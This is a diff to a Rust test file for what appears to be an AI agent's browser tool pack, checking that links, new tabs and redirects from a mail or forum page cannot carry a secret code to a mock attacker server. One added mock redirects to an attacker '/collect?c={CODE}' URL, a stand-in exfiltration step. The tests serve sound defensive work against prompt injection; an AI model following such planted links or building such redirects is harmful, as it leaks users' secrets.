@@ -137,6 +137,17 @@ impl Web {
             })
     }
 
+    /// The paths of the requests that reached `server`.
+    async fn paths(server: &MockServer) -> Vec<String> {
+        server
+            .received_requests()
+            .await
+            .unwrap_or_default()
+            .iter()
+            .map(|request| request.url.path().to_owned())
+            .collect()
+    }
+
     /// How many requests reached `server`.
     async fn hits(server: &MockServer) -> usize {
         server.received_requests().await.unwrap_or_default().len()
@@ -307,21 +318,41 @@ async fn the_code_stays_with_the_task(backend: Backend) {
         "may read, not act on",
     )
     .await;
-    // A link of the mail's to an origin outside the task: the page is
-    // taken back, and the answer says so.
+    // A link of the mail's to an origin outside the task: refused before
+    // its request leaves (the attacker hears nothing of it, below), the
+    // answer says so, and the page is the mail's still (Chrome's error
+    // page taken back).
     let inbox = ok(&pack, "open", json!({ "url": format!("{mail}/inbox") })).await;
     let prize = tools::element_number(&inbox.text, "link \"Claim your prize\"").expect("the link");
     let followed = pack.call("click", json!({ "element": prize })).await;
     assert!(
-        followed.text.contains("outside this task's origins"),
+        followed.text.contains("to origins outside this task"),
         "{}",
         followed.text
     );
+    let back = ok(&pack, "snapshot", json!({})).await;
+    assert!(back.text.contains("# Inbox"), "{}", back.text);
+    // A read origin that redirects outside the task: the hop is refused.
+    Mock::given(path("/go"))
+        .respond_with(
+            ResponseTemplate::new(302)
+                .insert_header("location", format!("{attacker}/collect?c={CODE}").as_str()),
+        )
+        .with_priority(1)
+        .mount(&web.forum)
+        .await;
+    refused(
+        &pack,
+        "open",
+        json!({ "url": format!("{forum}/go") }),
+        "outside this task's origins",
+    )
+    .await;
     // A link that opens a tab outside the task: the tab is closed.
     let inbox = ok(&pack, "open", json!({ "url": format!("{mail}/inbox") })).await;
     let offer = tools::element_number(&inbox.text, "link \"Open the offer\"").expect("the link");
     let opened = pack.call("click", json!({ "element": offer })).await;
-    assert!(opened.text.contains("it was closed"), "{}", opened.text);
+    assert!(opened.text.contains("was closed"), "{}", opened.text);
     let tabs = ok(&pack, "tabs", json!({ "action": "list" })).await;
     assert!(tabs.text.starts_with("1 tab open"), "{}", tabs.text);
     // The benign task: the code typed into the shop, and paid.
@@ -354,10 +385,16 @@ async fn the_code_stays_with_the_task(backend: Backend) {
         "outside this task's origins",
     )
     .await;
-    // The forum never heard the code; the attacker heard it only from the
-    // page's own script and the link the page took (not strict: the pages'
-    // own requests are the page's, as before).
+    // The forum never heard the code; the attacker heard from no page the
+    // task opened there (no link, tab or redirect reached it), only from a
+    // page's own script and a frame's document (not strict: a page's own
+    // requests are the page's, as before).
     assert!(!Web::heard_code(&web.forum).await);
+    let heard = Web::paths(&web.attacker).await;
+    assert!(
+        heard.iter().all(|path| path == "/beacon" || path == "/ad"),
+        "{heard:?}"
+    );
     assert!(Web::heard_code(&web.shop).await || paid.text.contains(CODE));
     pack.close().await;
 }
@@ -539,7 +576,7 @@ async fn a_pages_words_are_not_the_users(backend: Backend) {
     pack.close().await;
 }
 
-both_backends!(
+every_backend!(
     the_code_stays_with_the_task,
     a_pages_words_are_not_the_users,
     strict_keeps_the_pages_within,
